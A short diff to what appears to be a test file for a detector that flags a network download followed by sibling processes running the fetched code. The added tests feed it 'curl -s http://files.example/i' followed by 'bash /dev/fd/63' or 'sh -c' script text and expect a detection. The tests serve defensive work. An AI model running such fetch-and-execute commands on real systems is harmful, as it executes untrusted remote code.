@@ -68,6 +68,10 @@ describe("a download that children of one parent run", () => {
     const substituted = new ShellHost(downloadThenRunSiblings);
     substituted.run("curl -s http://files.example/i");
     expect(substituted.run("bash /dev/fd/63")).toHaveLength(1);
+    const text = new ShellHost(downloadThenRunSiblings);
+    text.run("curl -s http://files.example/i");
+    expect(text.run(["sh", "-c", "#!/bin/sh\nmake install"])).toHaveLength(1);
+    expect(text.run(["sh", "-c", "make install"])).toEqual([]);
   });
 
   test("later than that, from another parent, or saved to a file, they are no pipe", () => {
